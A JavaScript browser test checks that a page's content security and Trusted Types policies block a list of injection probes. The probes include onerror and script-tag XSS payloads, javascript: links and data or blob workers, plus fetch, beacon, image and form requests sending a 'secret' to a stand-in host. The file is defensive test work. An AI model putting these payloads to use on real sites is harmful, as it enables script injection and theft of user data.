// What injected code would try, in the page as nginx serves it and on a host that sets no header: each is stopped by the policy.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch } from "../support/browser.mjs";
import * as nginx from "../support/nginx.mjs";
import * as bare from "../support/static.mjs";
import { started } from "./page.mjs";

const ELSEWHERE = "https://example.com";

const PROBES = {
  "eval": () => (0, eval)("window.done = 1"),
  "new Function": () => new Function("window.done = 1")(),
  "a timer of a text": () => setTimeout("window.done = 1"),
  "innerHTML": () => (document.createElement("div").innerHTML = "<img src=x onerror=window.done=1>"),
  "insertAdjacentHTML": () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=window.done=1>"),
  "document.write": () => document.write("<script>window.done = 1</script>"),
  "a script's text": () => document.body.append(Object.assign(document.createElement("script"), { text: "window.done = 1" })),
  "a script's address": () => document.body.append(Object.assign(document.createElement("script"), { src: "https://example.com/x.js" })),
  "a script as a text node": () => {
    const script = document.createElement("script");
    script.append("window.done = 1");
    document.body.append(script);
  },
  "a handler as an attribute": () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.done = 1");
    document.body.append(button);
    button.click();
  },
  "a frame's document": () => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.done = 1</script>" })),
  "a javascript: link": () => {
    const link = Object.assign(document.createElement("a"), { href: "javascript:window.done=1" });
    document.body.append(link);
    link.click();
  },
  "a worker from a blob": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }))),
  "a worker of the page's own files": () => new Worker(document.querySelector("script[data-js]").dataset.js),
  "a module from data": () => import("data:text/javascript,window.done=1"),
  "a second policy": () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
  "a policy of another name": () => trustedTypes.createPolicy("other", { createHTML: (text) => text }),
  "a request elsewhere": () => fetch("https://example.com/?secret", { mode: "no-cors" }),
  "an image elsewhere": () => document.body.append(Object.assign(new Image(), { src: "https://example.com/?secret" })),
  "a beacon elsewhere": () => navigator.sendBeacon("https://example.com/", "secret") || Promise.reject(new Error("not sent")),
  "a form elsewhere": () => {
    const form = Object.assign(document.createElement("form"), { action: "https://example.com/", method: "post" });
    document.body.append(form);
    form.submit();
  },
  "another base": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://example.com/" })),
  "a style as an attribute": () => document.body.setAttribute("style", "background: url(https://example.com/?secret)"),
  "a page fetched ahead elsewhere": () => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "https://example.com/?secret" })),
  "a style sheet elsewhere": () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://example.com/x.css" })),
};

let browser;
before(async () => (browser = await launch()));
after(() => browser?.close());

for (const [name, host] of Object.entries({ "behind nginx": nginx, "on a host without headers": bare })) {
  test(`what injected code would try is stopped ${name}`, async () => {
    const server = await host.start({ upstreamPort: 9 });
    const page = await browser.newPage();
    const sent = [];
    // What the policy stops does not get here.
    await page.route(`${ELSEWHERE}/**`, (route) => (sent.push(route.request().url()), route.abort()));
    try {
      const functions = Object.entries(PROBES).map(([what, probe]) => `${JSON.stringify(what)}: ${probe}`);
      await page.addInitScript(`globalThis.probes = { ${functions} }`);
      await page.goto(server.url);
      await started(page);
      const passed = [];
      for (const what of Object.keys(PROBES)) if (!(await page.evaluate(stopped, what))) passed.push(what);
      assert.deepEqual(passed, []);
      assert.deepEqual(sent, []);
    } finally {
      await page.close();
      await server.stop();
    }
  });
}

/** Was it refused, by an exception or a violation, and without any effect? Asked from a timer: the debugger's own calls may do more. */
function stopped(what) {
  return new Promise((answer) => setTimeout(async () => {
    let refused = false;
    const note = () => (refused = true);
    addEventListener("securitypolicyviolation", note);
    try {
      await probes[what]();
    } catch {
      refused = true;
    }
    // A violation may be told a little later, and a script would take a moment.
    for (let waited = 0; waited < 2 || (!refused && waited < 20 && !`${probes[what]}`.includes("done")); waited++) await new Promise((done) => setTimeout(done, 50));
    removeEventListener("securitypolicyviolation", note);
    // What would leave its mark proves itself by not doing so.
    answer((refused || `${probes[what]}`.includes("done")) && window.done === undefined);
  }));
}
